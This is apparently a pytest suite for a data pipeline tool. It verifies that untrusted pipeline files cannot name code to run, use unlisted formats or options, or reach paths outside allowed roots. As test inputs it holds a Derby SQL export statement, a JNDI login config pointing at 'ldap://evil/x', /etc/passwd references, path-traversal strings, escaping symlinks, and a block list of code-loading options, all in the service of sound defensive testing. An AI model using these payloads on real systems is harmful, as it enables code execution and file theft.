"""What a pipeline file from a stranger may not do: formats, options, code, folders, links."""

from __future__ import annotations

import re
import time
from pathlib import Path

import pytest

from tidegate.errors import ConfigError
from tidegate.pipeline import PipelineDefinition, explain, plan
from tidegate.pipeline.formats import (
    SINKS,
    SOURCES,
    register_format,
    sink_options,
    sink_path,
    source_settings,
)
from tidegate.pipeline.secrets import resolve
from tidegate.pipeline.security import expand, refuse_code, resolve_path

# -- code ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "plugin.library.paths",  # librdkafka loads it
        "kafka.sasl.kerberos.kinit.cmd",  # both clients run it
        "sasl.kerberos.kinit.cmd",
        "ssl.engine.location",
        "kafka.sasl.login.callback.handler.class",
        "kafka.interceptor.classes",
        "kafka.metric.reporters",
        "kafka.security.providers",
        "kafka.partition.assignment.strategy",
        "kafka.config.providers",
        "sessionInitStatement",  # JDBC runs it
        "prepareQuery",
        "driver",
        "connectionProvider",
        "parquet.crypto.factory.class",
    ],
)
def test_options_that_name_code_are_refused(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(ConfigError, match="names code to run"):
        refuse_code(["topic", name], "sink.options")
    monkeypatch.setenv("TIDEGATE_ALLOW_CODE", "1")
    refuse_code([name], "sink.options")


def test_other_options_are_not() -> None:
    refuse_code(
        ["kafka.bootstrap.servers", "sasl.mechanism", "ssl.ca.location", "subclass", "path"], "o"
    )


# -- formats ---------------------------------------------------------------------------------------


def source(**fields: object) -> PipelineDefinition:
    return PipelineDefinition.of({"streams": {"s": {"source": fields}}})


def settings(**fields: object) -> tuple[str | None, dict[str, str]]:
    found = source(**fields).streams["s"].source
    assert found is not None
    return source_settings(found, "streams.s.source")


DERBY = {
    "url": "jdbc:derby:memory:x;create=true",
    "dbtable": "t",
    "sessionInitStatement": "CALL SYSCS_UTIL.SYSCS_EXPORT_QUERY('SELECT 1', '/tmp/owned')",
}


def test_jdbc_is_refused_and_its_statements_are_when_it_is_allowed(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    with pytest.raises(ConfigError, match=r"^streams\.s\.source\.format: got 'jdbc', .*"
                                          r"--allow-format jdbc"):  # fmt: skip
        settings(format="jdbc", options=DERBY)
    monkeypatch.setenv("TIDEGATE_ALLOW_FORMATS", "iceberg, JDBC")
    with pytest.raises(ConfigError, match="'sessionInitStatement', names code to run"):
        settings(format="jdbc", options=DERBY)
    plain = {name: value for name, value in DERBY.items() if name != "sessionInitStatement"}
    assert settings(format="jdbc", options=plain) == (None, plain)


@pytest.mark.parametrize(
    "format",
    ["org.apache.spark.sql.execution.datasources.jdbc.JdbcRelationProvider", "Jdbc", "socket",
     "binaryFile", "redis", "snowflake", "PARQUET.x", ""],
)  # fmt: skip
def test_formats_that_are_not_listed(format: str) -> None:
    with pytest.raises(ConfigError, match="is not among the formats a pipeline file may use"):
        settings(format=format)


@pytest.mark.parametrize(
    ("format", "options", "says"),
    [
        ("csv", {"haeder": True}, "did you mean header"),
        ("csv", {"header": "maybe"}, r"options\.header: got 'maybe', must be true or false"),
        ("parquet", {"maxFilesPerTrigger": "many"}, "must be a whole number"),
        ("csv", {"samplingRatio": "half"}, "must be a number"),
        ("parquet", {"parquet.crypto.factory.class": "x.Y"}, "names code"),
        ("json", {"cleanSource": "delete"}, "must be one of off, archive"),
        ("kafka", {"kafka.sasl.oauthbearer.token.endpoint.url": "file:///etc/passwd"},
         "is not known here"),
        ("kafka", {"kafka.sasl.jaas.config":
                   'com.sun.security.auth.module.JndiLoginModule required '
                   'user.provider.url="ldap://evil/x";'}, "must be a PlainLoginModule"),
        ("kafka", {"kafka.sasl.jaas.config":
                   'org.apache.kafka.common.security.plain.PlainLoginModule required a="b"; '
                   'com.sun.security.auth.module.JndiLoginModule required x="y";'},
         "must be a PlainLoginModule"),
    ],
)  # fmt: skip
def test_options_are_of_a_closed_list_and_typed(
    format: str, options: dict[str, object], says: str
) -> None:
    with pytest.raises(ConfigError, match=says):
        settings(format=format, options=options)


def test_options_that_are_listed_are_used() -> None:
    login = (
        "org.apache.kafka.common.security.scram.ScramLoginModule required "
        'username="ada" password="hunter2";'
    )
    options = {"kafka.bootstrap.servers": "h:1", "SUBSCRIBE": "t", "kafka.sasl.jaas.config": login}
    assert settings(format="kafka", options=options)[1] == options
    assert settings(format="csv", options={"Header": True})[1] == {"Header": "true"}


def test_an_allowed_format_takes_any_option_but_code(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TIDEGATE_ALLOW_FORMATS", "csv")
    assert settings(format="csv", options={"brandNew": 1})[1] == {"brandNew": "1"}
    with pytest.raises(ConfigError, match="names code"):
        settings(format="csv", options={"x.class": "y"})


def test_sinks_have_a_closed_list_too() -> None:
    sink = PipelineDefinition.of(
        {"streams": {"s": {}}, "sink": {"format": "parquet", "options": {"x": "hunter2"}}}
    ).sink
    assert sink is not None
    with pytest.raises(ConfigError, match=r"^sink\.options\.x: got '\*\*\*', is not known here"):
        sink_options(sink)


def test_formats_of_other_packages(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tidegate.pipeline.formats.SOURCES", dict(SOURCES))
    register_format("source", "mine", {"depth": "integer"})
    with pytest.raises(ConfigError, match="must be a whole number"):
        settings(format="mine", options={"depth": "deep"})
    with pytest.raises(ConfigError, match="registered already"):
        register_format("source", "mine")
    register_format("source", "mine", replace=True)
    assert settings(format="mine", options={"anything": "goes"})[1] == {"anything": "goes"}
    assert "mine" not in SINKS


def test_explain_says_what_a_run_would_refuse() -> None:
    text = explain(plan(source(format="jdbc", options=DERBY)))
    assert "note: a run refuses streams.s.source.format jdbc unless it is started with" in text
    assert "SYSCS" not in text
    text = explain(plan(source(format="csv", options={"what": 1})))
    assert "note: a run refuses the option streams.s.source.options.what" in text


# -- folders ---------------------------------------------------------------------------------------


@pytest.fixture
def root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The one directory allowed, with a secret and a link that leads out of it."""
    made = tmp_path / "root"
    made.mkdir()
    (made / "secret").write_text("what-is-inside\n")
    (tmp_path / "secret").write_text("hunter2\n")
    (made / "link").symlink_to(tmp_path)
    (made / "odd*name").symlink_to(tmp_path)
    monkeypatch.setenv("TIDEGATE_ROOTS", str(made))
    return made


@pytest.mark.parametrize("name", ["../secret", "link/secret", "odd*name/secret", "/etc/hostname"])
def test_a_secret_outside_is_not_read(root: Path, name: str) -> None:
    with pytest.raises(ConfigError, match=r"must be inside .*root \(TIDEGATE_ROOTS\)") as caught:
        resolve(f"${{file:{root / name}}}", "sink.options.password")
    assert caught.value.field == "sink.options.password"
    assert "hunter2" not in str(caught.value)


def test_a_secret_inside_is_read(root: Path) -> None:
    assert resolve(f"${{file:{root / 'secret'}}}") == "what-is-inside"


def test_without_roots_secrets_are_anywhere(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("TIDEGATE_ROOTS")
    assert resolve(f"${{file:{root / 'link' / 'secret'}}}") == "hunter2"


def test_a_name_with_a_star_is_a_pattern_only_for_sources(root: Path) -> None:
    resolve_path(str(root / "odd*name"), "source.path", pattern=True)
    with pytest.raises(ConfigError, match="must be inside"):
        resolve_path(str(root / "odd*name"), "sink.path")


@pytest.mark.parametrize(
    "path",
    [
        "file:/etc/passwd", "file:///etc/passwd", "FILE:///etc/passwd", "file://localhost/etc",
        "file:etc", "file://host/etc", "file:{root}/../x", "s3://bucket/x", "s3a:/bucket",
        "hdfs:///x", "http://host/x", "jar:file:/x!/y", "a:b", "{root}/link/x", "{root}/../x",
        "{root}/x/../../../etc", "{root}/*/../../x", "{root}/{{a,..}}/x", "{root}/{{a,../..}}/x",
        "{root}/*/\\.\\./x", "{root}/{{a,b}}/[.]/../../..", "/", "", "~/x", "{root}x/y",
        "{root}/x\0y", "{root}/\\.\\./x", "{root}/in/\\.\\./\\.\\./x",
    ],
)  # fmt: skip
def test_nothing_leaves_the_roots(root: Path, path: str) -> None:
    for pattern in (True, False):
        if not pattern and ("{" in path.replace("{root}", "") or "\\" in path):
            continue  # as a plain name this stays inside
        with pytest.raises(ConfigError):
            resolve_path(path.format(root=root), "options.checkpoint", pattern=pattern)


def test_a_definition_reads_no_other_variable_than_those_allowed(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A reference could be sent to a server that the file names."""
    monkeypatch.setenv("MINE", "hunter2-of-mine")
    assert resolve("${env:MINE}") == "hunter2-of-mine"
    monkeypatch.setenv("TIDEGATE_ENV", "OTHER, THEIRS")
    with pytest.raises(
        ConfigError, match=r"got '\$\{env:MINE\}', the variable must be named in TI"
    ):
        resolve("${env:MINE}")
    monkeypatch.setenv("TIDEGATE_ENV", "MINE")
    assert resolve("${env:MINE}") == "hunter2-of-mine"


def test_a_schema_that_includes_other_files_is_no_option(root: Path) -> None:
    with pytest.raises(ConfigError, match=r"rowValidationXSDPath: .* is not known here"):
        settings(format="xml", path=str(root), options={"rowValidationXSDPath": str(root / "a")})


def test_what_is_checked_is_what_is_opened(root: Path) -> None:
    """`file:` URIs and `..` are resolved once: the sink and Spark get the plain path."""
    assert sink_path(f"file:{root}/a/../out") == str(root / "out")
    assert sink_path(f"file://{root}/out") == str(root / "out")
    inner = root / "inner"
    inner.mkdir()
    (root / "inside").symlink_to(inner)
    assert sink_path(str(root / "inside")) == str(inner)


def test_links_that_lead_out_of_a_source_are_refused(root: Path, tmp_path: Path) -> None:
    folder = root / "in"
    folder.mkdir()
    (folder / "a.json").write_text("{}")
    (folder / "same").symlink_to(folder / "a.json")
    assert settings(format="json", path=str(folder))[0] == str(folder)
    for number in range(5):
        (folder / f"passwd{number}.json").symlink_to("/etc/passwd")
    with pytest.raises(ConfigError, match=r"contains links that lead out: .*passwd.*and 2 more"):
        settings(format="json", path=str(folder))
    with pytest.raises(ConfigError, match=r"contains links that lead out"):
        settings(format="json", path=f"{folder}/pass*")
    with pytest.raises(ConfigError, match=r"contains links that lead out"):
        settings(format="json", path=f"{folder}/{{a,passwd1}}.json")
    out = root / "out"
    out.mkdir()
    (out / "data").symlink_to(tmp_path)
    with pytest.raises(ConfigError, match=r"sink\.path: .*contains links that lead out"):
        sink_path(str(out))


def test_a_path_in_an_error_is_the_reference(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET_PLACE", "/etc/hunter2")
    for text in ("${env:SECRET_PLACE}", "x${env:SECRET_PLACE}/../../../.."):
        with pytest.raises(ConfigError) as caught:
            settings(format="json", path=text)
        assert "hunter2" not in str(caught.value)
        assert "${env:SECRET_PLACE}" in str(caught.value)


@pytest.mark.parametrize("name", ["sourceArchiveDir", "basePath"])
def test_options_that_name_a_place(root: Path, name: str) -> None:
    assert settings(options={name: f"{root}/x"})[1] == {name: str(root / "x")}
    with pytest.raises(ConfigError, match=rf"source\.options\.{name}: .* must be inside"):
        settings(options={name: "/etc/x"})


def test_patterns_do_not_explode() -> None:
    began = time.monotonic()
    with pytest.raises(ConfigError, match="stands for more than 1,000 patterns"):
        expand("/tmp/" + "{a,b}" * 40)
    assert time.monotonic() - began < 1


DEFINITION = """
streams:
  fleet: {{source: {{path: {source}, options: {{{options}}}}}, key: vehicle}}
options: {{mode: streaming, trigger: available_now, checkpoint: {checkpoint}}}
sink: {{format: {sink}, path: {root}/out, options: {{{sink_options}}}}}
"""


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"checkpoint": "/tmp/elsewhere"}, r"options\.checkpoint"),
        ({"checkpoint": "file:/tmp/elsewhere"}, r"options\.checkpoint"),
        ({"checkpoint": "'{root}/link/checkpoint'"}, r"options\.checkpoint"),
        ({"checkpoint": "s3://bucket/checkpoint"}, r"options\.checkpoint"),
        ({"source": "'{root}/od*'"}, r"streams\.fleet\.source\.path"),
        (
            {"options": "sourceArchiveDir: /tmp"},
            r"streams\.fleet\.source\.options\.sourceArchiveDir",
        ),
        ({"sink": "kafka", "sink_options": "ssl.ca.location: /etc/x"},
         r"sink\.options\.ssl\.ca\.location"),
    ],
)  # fmt: skip
def test_a_run_is_refused_before_spark_starts(
    root: Path, change: dict[str, str], field: str
) -> None:
    report = pytest.importorskip("tidegate.spark.runner")
    (root / "in").mkdir()
    plain = {
        "source": "'{root}/in'", "options": "", "checkpoint": "'{root}/c'", "sink": "parquet",
        "sink_options": "",
    }  # fmt: skip
    filled = {name: text.format(root=root) for name, text in {**plain, **change}.items()}
    definition = PipelineDefinition.from_yaml(DEFINITION.format(root=root, **filled))
    with pytest.raises(ConfigError, match=rf"^{field}: .*(must be inside|lead out)"):
        report.open_definition(definition, master="no such master")
    assert not (root / "out").exists()


def test_the_reference_lists_every_format_and_option() -> None:
    text = (Path(__file__).parents[2] / "docs" / "reference" / "formats.md").read_text()
    named = set(re.findall(r"`([^`]+)`", text))
    for format in (*SOURCES.values(), *SINKS.values()):
        options = {name.removeprefix("kafka.") for name in format.options or ()}
        options |= {n for n in (format.options or ()) if n.startswith("kafka.") and n in named}
        assert {format.name, *options} <= named
